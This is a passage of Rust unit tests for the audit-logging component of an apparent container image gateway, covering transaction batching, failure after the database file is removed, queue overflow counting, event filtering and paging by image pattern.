                let (auditor, d) = (auditor.clone(), d.clone());
                tokio::spawn(async move {
                    let uid = format!("uid-{i}");
                    let mut events = Vec::new();
                    auditor.note(&mut events, &context(&uid), "nginx", &d);
                    auditor.note(&mut events, &context(&uid), "redis", &d);
                    auditor.commit(events).await
                })
            })
            .collect();
        tokio::time::sleep(Duration::from_millis(200)).await;
        drop(busy);
        for t in tasks {
            t.await.unwrap().unwrap();
        }
        assert_eq!(
            store.audit_events(&AuditFilter::default()).unwrap().len(),
            800
        );
        writer.close().await;
        let text = metrics.encode();
        let transactions: u64 = text
            .lines()
            .find_map(|l| l.strip_prefix("imagegate_audit_transactions_total "))
            .unwrap()
            .parse()
            .unwrap();
        // The first review's, then 799 waiting events in batches of 500.
        assert!(
            (1..=4).contains(&transactions),
            "400 commits waiting together took {transactions} transactions"
        );
    }

    #[tokio::test]
    async fn a_removed_database_file_fails_the_commit_and_says_so() {
        let mut b = [0u8; 8];
        getrandom::fill(&mut b).unwrap();
        let dir = std::env::temp_dir().join(format!("imagegate-audit-{}", u64::from_le_bytes(b)));
        let store: Arc<dyn Store> = Arc::new(SqliteStore::open(&dir).unwrap());
        let metrics = Arc::new(Metrics::new());
        let (auditor, _writer) = Auditor::start(store, metrics.clone(), 100);
        let d = denial();
        let mut events = Vec::new();
        auditor.note(&mut events, &context("before"), "nginx", &d);
        auditor.commit(events).await.unwrap();
        assert!(auditor.health().ok());

        std::fs::remove_file(dir.join(crate::store::DATABASE_FILE)).unwrap();
        let mut events = Vec::new();
        auditor.note(&mut events, &context("after"), "nginx", &d);
        let e = auditor.commit(events).await.unwrap_err();
        let expected = format!(
            "store {}: the database file was removed while imagegate had it open",
            dir.join(crate::store::DATABASE_FILE).display()
        );
        assert_eq!(e.to_string(), format!("audit log unavailable: {expected}"));
        assert_eq!(
            auditor.health().problem().as_deref(),
            Some(expected.as_str())
        );
        let text = metrics.encode();
        assert!(text.contains("imagegate_audit_store_up 0"), "{text}");
        assert!(
            text.contains("imagegate_audit_events_total{result=\"dropped_error\"} 1"),
            "{text}"
        );
        assert!(
            text.contains("imagegate_audit_events_total{result=\"written\"} 1"),
            "the event written to the removed file is not counted as written: {text}"
        );
    }

    #[tokio::test]
    // Holding the store's write lock across awaits is how the writer is stalled.
    #[allow(clippy::await_holding_lock)]
    async fn a_full_queue_drops_and_counts_and_never_blocks() {
        let mut b = [0u8; 8];
        getrandom::fill(&mut b).unwrap();
        let dir = std::env::temp_dir().join(format!("imagegate-audit-{}", u64::from_le_bytes(b)));
        let sqlite = Arc::new(SqliteStore::open(&dir).unwrap());
        let metrics = Arc::new(Metrics::new());
        let (auditor, writer) = Auditor::start(sqlite.clone(), metrics.clone(), 10);
        let d = denial();
        let gateway = Context {
            door: "gateway",
            ..Context::default()
        };
        {
            // A writer that cannot keep up: its store is busy. The first
            // event gets it stuck writing, the queue then holds 10.
            let _busy = sqlite.hold_writes();
            auditor.record(&gateway, "x", &d);
            tokio::time::sleep(Duration::from_millis(200)).await;
            for _ in 1..100 {
                auditor.record(&gateway, "x", &d);
            }
        }
        writer.close().await;
        let written = sqlite.audit_events(&AuditFilter::default()).unwrap().len();
        let text = metrics.encode();
        let dropped: usize = text
            .lines()
            .find_map(|l| {
                l.strip_prefix("imagegate_audit_events_total{result=\"dropped_overflow\"} ")
            })
            .unwrap()
            .parse()
            .unwrap();
        assert!(dropped >= 89, "{dropped} dropped");
        assert_eq!(
            written + dropped,
            100,
            "every event written or counted: {text}"
        );
    }

    #[tokio::test]
    async fn filters_select_by_time_decision_and_door_and_limit_keeps_the_newest() {
        let store = store();
        let event = |t: i64, door: &str, decision: &str| AuditEvent {
            time_ms: t,
            door: door.into(),
            image: "docker.io/library/nginx:latest".into(),
            input: "nginx".into(),
            decision: decision.into(),
            reason: "allowed".into(),
            mode: "enforce".into(),
            message: "m".into(),
            ..AuditEvent::default()
        };
        store
            .append_audit(&[
                event(1000, "gateway", "allow"),
                event(2000, "admission", "deny"),
                event(3000, "gateway", "deny"),
            ])
            .unwrap();
        let times = |f: AuditFilter| -> Vec<i64> {
            store
                .audit_events(&f)
                .unwrap()
                .iter()
                .map(|e| e.time_ms)
                .collect()
        };
        assert_eq!(times(AuditFilter::default()), [1000, 2000, 3000]);
        assert_eq!(
            times(AuditFilter {
                since_ms: Some(2000),
                ..Default::default()
            }),
            [2000, 3000]
        );
        assert_eq!(
            times(AuditFilter {
                until_ms: Some(2000),
                ..Default::default()
            }),
            [1000]
        );
        assert_eq!(
            times(AuditFilter {
                decision: Some("deny".into()),
                ..Default::default()
            }),
            [2000, 3000]
        );
        assert_eq!(
            times(AuditFilter {
                door: Some("gateway".into()),
                ..Default::default()
            }),
            [1000, 3000]
        );
        assert_eq!(
            times(AuditFilter {
                limit: Some(2),
                ..Default::default()
            }),
            [2000, 3000]
        );
    }

    #[test]
    fn an_image_pattern_pages_through_a_log_longer_than_a_chunk() {
        // A second apart, and seven to a millisecond (ties across chunks).
        image_pattern_pages(|i| 1_000_000 + i * 1000);
        image_pattern_pages(|i| 1_000_000 + i / 7);
    }

    fn image_pattern_pages(time: fn(i64) -> i64) {
        let store = store();
        // 12,000 events alternating between two images.
        let events: Vec<AuditEvent> = (0..12_000i64)
            .map(|i| AuditEvent {
                time_ms: time(i),
                door: "gateway".into(),
                image: if i % 2 == 0 {
                    format!("docker.io/someuser/a:{i}")
                } else {
                    format!("docker.io/library/b:{i}")
                },
                decision: "deny".into(),
                ..AuditEvent::default()
            })
            .collect();
        store.append_audit(&events).unwrap();
        let glob = imagegate_core::pattern::ImagePattern::parse("docker.io/someuser/*").unwrap();
        let tags = |limit: Option<usize>, offset: Option<usize>| -> Vec<i64> {
            let filter = AuditFilter {
                limit,
                offset,
                ..AuditFilter::default()
            };
            read(store.as_ref(), &filter, Some(&glob))
                .unwrap()
                .iter()
                .map(|e| e.image.rsplit(':').next().unwrap().parse().unwrap())
                .collect()
        };
        assert_eq!(
            tags(Some(3), None),
            [11_994, 11_996, 11_998],
            "the newest, oldest first"
        );
        // Past the first chunk of 5,000 events (2,500 matches).
        assert_eq!(tags(Some(2), Some(2_999)), [5_998, 6_000]);
        assert_eq!(tags(Some(2), Some(5_999)), [0]);
        let all = tags(None, None);
        assert_eq!(all.len(), 6_000);
        assert!(all.windows(2).all(|w| w[0] < w[1]));
    }
}
